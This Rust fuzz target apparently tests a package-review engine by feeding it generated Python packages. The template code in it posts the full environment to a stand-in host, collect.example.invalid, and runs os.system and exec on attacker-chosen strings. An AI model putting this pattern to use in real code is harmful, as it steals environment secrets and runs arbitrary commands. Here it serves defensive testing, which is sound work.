//! Names and texts of an attacker's choice, on their way into what is printed.
#![no_main]

use libfuzzer_sys::fuzz_target;
use sluice_fuzz::{check_review, input, limits, pieces};
use sluice_intake::Shape;
use sluicegate::Engine;
use std::sync::LazyLock;

static ENGINE: LazyLock<Engine> = LazyLock::new(|| Engine::new().expect("the engine can be set up"));

fuzz_target!(|data: &[u8]| {
    let mut pieces = pieces(data).map(|piece| String::from_utf8_lossy(piece).into_owned());
    let mut next = || pieces.next().unwrap_or_default();
    let (name, path, literal, word, metadata) = (next(), next(), next(), next(), next());
    let literal = literal.replace(['\\', '\'', '\n', '\r'], " ");
    let code = format!(
        "import os, requests\n# {literal}\ndef send_{word}(x_{word}, path='{literal}'):\n    \
         requests.post('https://collect.example.invalid/{literal}', data=dict(os.environ))\n    \
         open('{literal}', 'w').write('{literal}')\n    os.system('{literal}')\n    exec('{literal}')\nsend_{word}(1)\n"
    );
    let mut parts = vec![
        ("PKG-INFO".to_owned(), metadata.into_bytes()),
        (format!("{path}.py"), code.clone().into_bytes()),
        (format!("{path}.so"), b"\x7fELF\0\0\0\0".to_vec()),
    ];
    parts.sort();
    let options = sluicegate::Options { limits: limits(), ..sluicegate::Options::default() };
    check_review(&ENGINE.review(input(&name, Shape::Folder, parts), &options));
});
